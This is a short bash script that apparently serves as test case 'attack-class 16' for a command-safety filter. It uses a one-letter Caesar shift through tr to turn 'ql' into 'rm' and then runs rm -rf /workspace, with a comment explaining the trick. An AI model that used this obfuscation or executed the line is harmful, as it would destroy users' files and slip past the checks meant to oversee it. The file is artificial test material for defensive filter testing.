#!/usr/bin/env bash
# attack-class: 16
# title: $(echo ql | tr a-y b-z)
# why: a Caesar shift by one turns ql into rm

$(echo ql | tr 'a-y' 'b-z') -rf /workspace
